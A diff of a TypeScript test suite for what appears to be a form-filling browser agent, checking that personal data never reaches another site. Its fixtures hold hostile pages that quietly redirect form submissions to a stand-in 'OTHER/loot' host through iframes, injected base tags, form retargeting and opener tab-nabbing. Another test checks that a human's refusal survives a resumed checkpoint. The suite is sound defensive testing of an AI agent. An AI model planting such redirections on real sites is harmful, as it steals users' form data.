@@ -131,7 +131,52 @@ const TURNED: Record<string, [what: string, page: string]> = {
     ),
   ],
 }
-Object.assign(PAGES, TURNED)
+
+/** The same form in documents that have no address of their own, or get another one in the last moment. */
+const AWAY = form('method=post action="OTHER/loot"')
+const quoted = (page: string): string => page.replaceAll('"', '&quot;')
+const inScript = (page: string): string => JSON.stringify(page).replaceAll('</', '<\\/')
+const PLACED: Record<string, [what: string, page: string]> = {
+  srcdoc: [
+    'a form in a frame that is written into the page',
+    `<title>Join</title><h1>Join</h1><iframe width=600 height=400 title="Details" srcdoc="${quoted(AWAY)}"></iframe>`,
+  ],
+  'srcdoc-base': [
+    'the same, whose base is turned as it is pressed',
+    `<title>Join</title><h1>Join</h1><iframe width=600 height=400 title="Details" srcdoc="${quoted(
+      `${form('method=post action="loot"')}<script>addEventListener('pointerdown', () => { const base = document.createElement('base'); base.href = 'OTHER/'; document.head.append(base) }, true)</script>`,
+    )}"></iframe>`,
+  ],
+  blob: [
+    'a form in a document that a script made',
+    `<title>Join</title><h1>Join</h1><iframe id=x width=600 height=400 title="Details"></iframe><script>x.src = URL.createObjectURL(new Blob([${inScript(AWAY)}], { type: 'text/html' }))</script>`,
+  ],
+  blank: [
+    'a form that is written into an empty frame',
+    `<title>Join</title><h1>Join</h1><iframe id=x width=600 height=400 title="Details"></iframe><script>x.contentDocument.write(${inScript(AWAY)}); x.contentDocument.close()</script>`,
+  ],
+  based: [
+    'a base that comes as the button is pressed',
+    `${form('method=post action="loot"')}<script>addEventListener('pointerdown', () => { const base = document.createElement('base'); base.href = 'OTHER/'; document.head.append(base) }, true)</script>`,
+  ],
+  named: [
+    'a window with a name, for a form that is turned as the mouse goes down',
+    `${form('method=post action="/own"')}<script>addEventListener('mousedown', () => { const [form] = document.forms; form.target = 'elsewhere'; form.action = 'OTHER/loot' }, true)</script>`,
+  ],
+  other: [
+    'another form, which the button is given to as it is pressed',
+    `${form('method=post action="/own"', '<button id=b>Send</button>')}<form id=evil method=post action="OTHER/loot"></form><script>addEventListener('pointerdown', () => { for (const el of [...document.forms[0].elements]) el.setAttribute('form', 'evil') }, true)</script>`,
+  ],
+  replaced: [
+    'a form that is another one once it has the keys',
+    `${form('method=post action="/own"')}<script>addEventListener('focusin', () => { document.forms[0].setAttribute('action', 'OTHER/loot') }, true)</script>`,
+  ],
+  opener: [
+    'a tab that the one behind it leads away while it is typed into',
+    `<title>Jobs</title><h1>Weaver</h1><button type=button onclick="const tab = window.open('ORIGIN/opened', 'tab'); window.addEventListener('message', () => { tab.location.href = 'OTHER/spy' })">Apply now</button>`,
+  ],
+}
+Object.assign(PAGES, TURNED, PLACED)
 
 interface Place {
   pages: Pages
@@ -150,6 +195,7 @@ const newPlace = async (): Promise<Place> => {
     '/spy': `<title>Join</title><h1>Join</h1>${SPY}<form action="/loot">${FIELDS}<p><button>Send</button></form>`,
     '/holder': '<title>Holder</title><iframe src="OTHER/spy" width=560 height=480 title="Details"></iframe>',
     '/turning': `<title>Join</title>${OWN}<p><label>Phone <input name=tel type=tel autocomplete=tel></label><script>addEventListener('input', () => { location.href = 'OTHER/spy' })</script>`,
+    '/opened': `${form('method=post action="/own"')}<script>addEventListener('input', () => opener.postMessage(1, '*'), true)</script>`,
     '/own-get': form('action="/own"'),
     '/plain': `<title>Join</title><h1>Join</h1><form method=post action="/own"><p><label>Comment <input name=comment></label><p><label>Nickname <input name=nick autocomplete=off></label><p><label>Secret word <input name=pin inputmode=numeric></label><button>Send</button></form>${SPY}`,
     '/own': '<title>Thank you</title><h1>Thank you!</h1>',
@@ -187,9 +233,11 @@ const run = async (
 ) => {
   const memory = memoryPorts({
     provider: createProvider('local'),
-    openSession: (given, signal) => launchServerBrowser({ signal, mayVisit: visitRule(given, { name: 'local' }) }),
+    openSession: (given, signal) =>
+      launchServerBrowser({ signal, mayVisit: visitRule(given, createProvider('local')) }),
     ...(human && { human }),
   })
+  let checkpoint: Record<string, unknown> | undefined
   const out = await runJob(
     runInput({
       targetUrl: pages.url(path),
@@ -199,10 +247,15 @@ const run = async (
       commitPolicy: 'granted',
       ...input,
     }),
-    memory.ports,
+    {
+      ...memory.ports,
+      async checkpoint(state) {
+        checkpoint = state
+      },
+    },
     AbortSignal.timeout(60_000),
   )
-  return { ...out, ...memory, learned: memory.manuals }
+  return { ...out, ...memory, checkpoint, learned: memory.manuals }
 }
 /** Everything that reached the other site, and the canaries in it. */
 const leaked = ({ pages, heard }: Place): string[] => {
@@ -219,7 +272,7 @@ const keys = ({ heard }: Place): string[] => heard.filter((one) => one.startsWit
 describe.concurrent('nothing of a person reaches another site', { timeout: WAIT_MS }, () => {
   test.each(Object.entries(PAGES).map(([id, [what]]) => [what, id] as const))('%s (%s)', (_, id) =>
     inPlace(async (place) => {
-      await run(place, `/${id}`, { jobType: id === 'link' || id === 'script' ? 'apply' : 'fill_form' })
+      await run(place, `/${id}`, { jobType: ['link', 'script', 'opener'].includes(id) ? 'apply' : 'fill_form' })
       expect(leaked(place)).toEqual([])
       // One key may be on its way while a page goes.
       expect(keys(place).length).toBeLessThanOrEqual(1)
@@ -273,6 +326,17 @@ describe.concurrent('the person is asked', { timeout: WAIT_MS }, () => {
       expect(result.notes?.join('\n')).toContain(place.pages.otherOrigin)
     }))
 
+  test('and not again where the job is taken up by another bridge', () =>
+    inPlace(async (place) => {
+      const first = answering('refuse')
+      const { checkpoint } = await run(place, '/frame', {}, first.human)
+      expect(first.asks()).toHaveLength(1)
+      const second = answering('approve')
+      await run(place, '/frame', { checkpoint: structuredClone(checkpoint ?? null) }, second.human)
+      expect(second.asks()).toEqual([])
+      expect(leaked(place)).toEqual([])
+    }))
+
   test('not about a site that the job was given', () =>
     inPlace(async (place) => {
       const { asks, human } = answering('refuse')
@@ -298,7 +362,7 @@ describe.concurrent('a manual from a stranger', { timeout: WAIT_MS }, () => {
     )
     const memory = memoryPorts({
       provider: createProvider('local'),
-      openSession: (one, signal) => launchServerBrowser({ signal, mayVisit: visitRule(one, { name: 'local' }) }),
+      openSession: (one, signal) => launchServerBrowser({ signal, mayVisit: visitRule(one, createProvider('local')) }),
     })
     await memory.ports.manuals.learn(body, 'import')
     return runJob(
